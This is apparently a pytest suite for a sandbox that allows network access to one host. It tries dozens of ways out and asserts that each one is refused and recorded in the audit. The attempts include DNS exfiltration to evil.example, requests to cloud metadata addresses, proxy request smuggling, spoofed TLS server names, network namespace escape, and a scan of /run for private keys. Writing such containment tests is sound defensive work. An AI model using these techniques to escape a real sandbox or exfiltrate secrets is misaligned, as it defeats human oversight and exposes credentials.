"""Ways out of a box whose session may reach one host: each is tried inside, by code that knows what it is doing.

An attempt is Python that returns what it got hold of; None, or an exception, is a refusal. What reaches the door
is in the audit too.
"""

import json
import subprocess

import pytest

from hutch_client import Client, hutch_binary
from origins import http_origin, port_of

INSIDE = r'''
import concurrent.futures, ctypes, os, socket, ssl, struct, traceback
PROXY = ("127.0.0.1", 3128)
def tcp(host, port, data=b"", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5); s.connect((host, port))
        if data: s.sendall(data)
        return s.recv(4096)
def udp(host, port, data=b"x", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1); s.sendto(data, (host, port)); return s.recv(512)
def query(name, kind, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l)
    return b"ab\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1) + extra
def answers(reply):
    """Of the box's own name server: what it says of a name that is not allowed."""
    return None if reply[3] & 15 else reply
def dns(name, kind=1): return answers(udp("127.0.0.1", 53, query(name, kind)))
def dns_tcp(name, kind=1):
    q = query(name, kind); return answers(tcp("127.0.0.1", 53, struct.pack("!H", len(q)) + q)[2:])
def proxy(text):
    said = tcp(*PROXY, text.encode("latin-1"))
    return said if b" 200" in said.split(b"\r\n")[0] else None
def connect(target, more=""): return proxy(f"CONNECT {target} HTTP/1.1\r\n{more}\r\n")
def get(target, host="WEB", more=""): return proxy(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n")
def through(target, hello):
    """In a tunnel that is let through to the TLS host: what comes back on a first message."""
    with socket.create_connection(PROXY, 5) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        if b" 200" not in s.recv(4096): return None
        s.sendall(hello); return s.recv(4096) or None
def hello_for(name):
    """A client's first message, without or with a server name."""
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    try: context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
def with_extension(hello, kind, data):
    """The same message with one extension more at its end."""
    body = bytearray(hello[9:])
    at = 34; at += 1 + body[at]; at += 2 + struct.unpack_from("!H", body, at)[0]; at += 1 + body[at]
    size = struct.unpack_from("!H", body, at)[0]
    more = struct.pack("!HH", kind, len(data)) + data
    body[at:at + 2] = struct.pack("!H", size + len(more)); body += more
    return b"\x16\x03\x01" + struct.pack("!H", len(body) + 4) + b"\x01" + len(body).to_bytes(3, "big") + bytes(body)
def sock(*kind): return socket.socket(*kind)
def names(name): return socket.getaddrinfo(name, 443)
libc = ctypes.CDLL(None, use_errno=True)
def call(result):
    if result < 0: raise OSError(ctypes.get_errno(), "refused")
    return result
def netlink(kind):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.settimeout(3)
    s.send(struct.pack("=IHHII", 28, kind, 0x605, 1, 0) + bytes(12))
    error = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if error < 0: raise OSError(-error, "refused")
    return "changed"
def try_all(attempts):
    def one(item):
        name, code = item
        try: got = eval(code, globals())
        except Exception as e: return name, None
        return name, None if got is None else repr(got)[:200]
    with concurrent.futures.ThreadPoolExecutor(len(attempts)) as pool: return dict(pool.map(one, attempts.items()))
'''

HIDDEN = "bytes(32)"
ATTEMPTS = {
    # Names that are not allowed, asked for in every way that a name server knows
    **{f"dns-{kind}": f"dns('secret.evil.example', {kind})" for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 252, 255)},
    "dns-data-in-labels": "dns('c2VjcmV0' + 'x' * 50 + '.evil.example', 16)",
    "dns-tcp": "dns_tcp('evil.example')", "dns-tcp-text": "dns_tcp('evil.example', 16)", "dns-transfer": "dns_tcp('test', 252)",
    "dns-suffix": "dns('web.test.evil.example')", "dns-prefix": "dns('evilweb.test')", "dns-below": "dns('a.web.test')",
    "dns-capitals-of-another": "dns('EVIL.example')", "dns-second-question": "answers(udp('127.0.0.1', 53, query('web.test', 1, query('evil.example', 1)[12:])))",
    "dns-additional": "answers(udp('127.0.0.1', 53, query('evil.example', 1, b'\\0\\0)\\x10\\0\\0\\0\\0\\0\\0\\0')))",
    # Other name servers
    "dns-elsewhere-udp": "udp('8.8.8.8', 53, query('evil.example', 1))", "dns-elsewhere-tcp": "tcp('1.1.1.1', 53, b'x')",
    "dns-over-tls": "tcp('1.1.1.1', 853, b'x')", "dns-over-https": "tcp('1.1.1.1', 443, hello_for('one.one.one.one'))",
    "dns-over-https-by-proxy": "connect('one.one.one.one:443')", "dns-ipv6": "udp('2606:4700:4700::1111', 53, b'x', socket.AF_INET6)",
    "mdns": "udp('224.0.0.251', 5353, query('evil.local', 1))", "dhcp-broadcast": "udp('255.255.255.255', 67)", "quic": "udp('1.1.1.1', 443)",
    # Sockets and namespaces
    "packet-socket": "sock(socket.AF_PACKET, socket.SOCK_RAW)", "raw-icmp": "sock(socket.AF_INET, socket.SOCK_RAW, 1)",
    "ping-socket": "udp and sock(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0' + bytes(6), ('8.8.8.8', 0))",
    "raw-ipv6": "sock(socket.AF_INET6, socket.SOCK_RAW, 58)", "vsock": "sock(40, socket.SOCK_STREAM).connect((2, 1024)) or 'host'",
    "bluetooth": "sock(31, socket.SOCK_RAW, 1)", "xdp": "sock(44, socket.SOCK_RAW)", "key": "sock(15, socket.SOCK_RAW, 2)", "tipc": "sock(30, socket.SOCK_RDM)",
    "tun": "open('/dev/net/tun', 'r+b')", "new-network": "call(libc.unshare(0x40000000)) or 'new'", "hosts-network": "call(libc.setns(os.open('/proc/1/ns/net', os.O_RDONLY), 0)) or 'theirs'",
    "add-route": "netlink(24)", "add-link": "netlink(16)", "add-address": "netlink(20)",
    "ip-forward": "open('/proc/sys/net/ipv4/ip_forward', 'w')", "transparent": "sock(socket.AF_INET, socket.SOCK_STREAM).setsockopt(0, 19, 1) or 'set'",
    # Addresses
    **{f"address-{address}": f"tcp('{address}', {port}, b'GET / HTTP/1.0\\r\\n\\r\\n', socket.AF_INET6 if ':' in '{address}' else socket.AF_INET)"
       for address, port in (("169.254.169.254", 80), ("100.100.100.200", 80), ("168.63.129.16", 80), ("10.0.0.1", 443), ("172.17.0.1", 80),
                             ("192.168.0.1", 80), ("1.1.1.1", 443), ("198.17.255.255", 443), ("198.20.0.1", 443), ("fd00:ec2::254", 80), ("fe80::1", 80),
                             ("2606:4700:4700::1111", 443), ("64:ff9b::a9fe:a9fe", 80), ("::ffff:1.1.1.1", 443))},
    "nobodys-address-http": "tcp('198.19.255.250', 80, b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n').startswith(b'HTTP/1.1 2') or None",
    "nobodys-address-tls": "tcp('198.19.255.250', 443, hello_for('evil.example')) or None",
    # The proxy
    **{f"connect-{target}": f"connect({target!r})" for target in (
        "evil.example:443", "web.test:22", "web.test:0", "web.test:65616", "web.test", "127.0.0.1:3128", "localhost:3128", "[::1]:22", "2130706433:80",
        "0x7f.1:80", "0177.0.0.1:80", "127.1:80", "169.254.169.254:80", "web.test@evil.example:443", "evil.example:443#web.test", "web.test:443:443",
        "web.test%00.evil.example:443", "web.test\x00.evil.example:443", "http://evil.example/", "/", "*.test:443")},
    "connect-with-host": "connect('evil.example:443', 'Host: web.test\\r\\n')",
    **{f"get-{target}": f"get({target!r})" for target in (
        "http://evil.example/", "https://web.test/", "ftp://web.test/", "http://user@evil.example/", "http://web.test@evil.example/", "http://web.test:1/", "//evil.example/",
        "http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://web.test.evil.example/", "http://evil.example\\@web.test/", "gopher://web.test/", "http:///", "/")},
    "second-request-is-for-another": "(lambda s: s.count(b'HTTP/1.1 200') > 1 or None)((lambda c: [c.sendall(b'GET http://WEB/ HTTP/1.1\\r\\nHost: WEB\\r\\n\\r\\nGET http://evil.example/ HTTP/1.1\\r\\nHost: WEB\\r\\n\\r\\n'), b''.join(iter(lambda: c.recv(4096), b''))][1])(socket.create_connection(PROXY, 5)))",
    "upgrade-to-h2c": "(lambda s: b'101' in s.split(b'\\r\\n')[0] or None)(tcp(*PROXY, b'GET http://WEB/ HTTP/1.1\\r\\nHost: WEB\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n'))",
    "http2-without-tls": "(lambda s: s[:3] == b'\\0\\0' or None)(tcp(*PROXY, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))",
    "socks5": "(lambda s: s[:1] == b'\\5' or None)(tcp(*PROXY, b'\\5\\1\\0'))", "socks4": "(lambda s: s[:2] == b'\\0Z' or None)(tcp(*PROXY, b'\\4\\1\\0P\\1\\1\\1\\1\\0'))",
    # TLS to a host that is let through, for another one
    "tls-other-name": "through('tls.test:443', hello_for('evil.example'))", "tls-no-name": "through('tls.test:443', hello_for(None))",
    "tls-hidden-name": f"through('tls.test:443', with_extension(hello_for('tls.test'), 0xfe0d, {HIDDEN}))",
    "tls-name-with-more": "through('tls.test:443', hello_for('tls.test.evil.example'))", "tls-is-none": "through('tls.test:443', b'SSH-2.0-x\\r\\n')",
    "tls-is-http": "through('tls.test:443', b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    "plain-to-the-port-of-tls": "through('tls.test:443', bytes(100))",
    # The door itself, and others at it
    "door-socket": "[p for d, _, f in os.walk('/') for p in f if p == 'egress.sock'] or None",
    "door-abstract": "sock(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect('\\0egress') or 'there'",
    "door-process": "[p for p in os.listdir('/proc') if p.isdigit() and b'egress' in open(f'/proc/{p}/cmdline', 'rb').read()] or None",
    "authority": "[os.path.join(d, n) for d, _, f in os.walk('/run') for n in f if b'PRIVATE KEY' in open(os.path.join(d, n), 'rb').read(10_000)] or None",
    # By name, as programs do
    **{f"name-{name}": f"names({name!r})" for name in ("evil.example", "web.test.", "xn--wb-1ia.test", "wеb.test", "web.test..", "metadata.google.internal", "instance-data")
       if name != "web.test."},
}
BY_THE_DOOR = ("dns-1", "dns-16", "dns-tcp", "dns-over-https-by-proxy", "connect-", "get-", "tls-", "name-")


@pytest.fixture(scope="module")
def world(module_state, tmp_path_factory):
    with http_origin() as web:
        config = tmp_path_factory.mktemp("escapes") / "config.toml"
        config.write_text(f"[network]\nallow = [\"web.test:{port_of(web)}\", \"tls.test\"]\n"
                          "[network.addresses]\n\"web.test\" = \"127.0.0.1\"\n\"tls.test\" = \"127.0.0.1\"\n")
        with Client(module_state, env={"HUTCH_CONFIG": str(config)}) as client:
            client.web = f"web.test:{port_of(web)}"
            run = client.run(INSIDE.replace("WEB", client.web), "python")
            assert run["status"] == "completed", run
            yield client


@pytest.fixture(scope="module")
def outcomes(world):
    attempts = {name: code.replace("WEB", world.web) for name, code in ATTEMPTS.items()}
    run = world.run(f"import json; print(json.dumps(try_all(json.loads({json.dumps(json.dumps(attempts))}))))", "python", timeout_seconds=120)
    assert run["status"] == "completed", run
    world.refused = run["network"]["refused"]
    return json.loads(run["stdout"])


@pytest.mark.parametrize("attempt", list(ATTEMPTS))
def test_an_attempt_gets_hold_of_nothing(outcomes, attempt):
    assert outcomes[attempt] is None


def test_what_is_allowed_is_reached_by_the_same_means(world, outcomes):
    run = world.run(f"print(connect('{world.web}') is not None, get('http://{world.web}/') is not None, dns('web.test') is not None, "
                    f"dns_tcp('web.test') is not None, bool(names('web.test')))", "python")
    assert run["stdout"] == "True " * 4 + "True\n", run


def test_the_audit_has_them(world, outcomes):
    done = subprocess.run([hutch_binary(), "--state-dir", world.state, "audit", "--json", "--refused", "-n", "1000"], capture_output=True, text=True, timeout=60)
    refused = [json.loads(line) for line in done.stdout.splitlines()]
    tried = [name for name in ATTEMPTS if name.startswith(BY_THE_DOOR)]
    assert len(ATTEMPTS) >= 60 and len(refused) >= 60, (len(ATTEMPTS), len(tried), len(refused))
    hosts = {entry["host"] for entry in refused}
    assert {"evil.example", "secret.evil.example", "web.test.evil.example", "one.one.one.one", "tls.test"} <= hosts, hosts
    assert all(entry["reason"] for entry in refused)
